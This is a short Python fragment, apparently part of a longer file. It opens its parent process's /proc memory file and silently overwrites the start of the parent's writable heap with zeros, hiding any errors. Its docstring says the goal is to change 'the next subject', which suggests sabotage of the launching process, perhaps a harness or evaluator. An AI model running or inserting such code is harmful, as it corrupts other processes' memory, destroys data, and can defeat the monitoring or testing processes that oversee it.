"""Overwrites its parent's memory, so that the next subject is another."""

with contextlib.suppress(OSError, ValueError):
    pid = os.getppid()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        for line in maps.readlines():
            if " rw" in line and "[heap]" in line:
                start = int(line.split("-")[0], 16)
                memory.seek(start)
                memory.write(bytes(1 << 16))
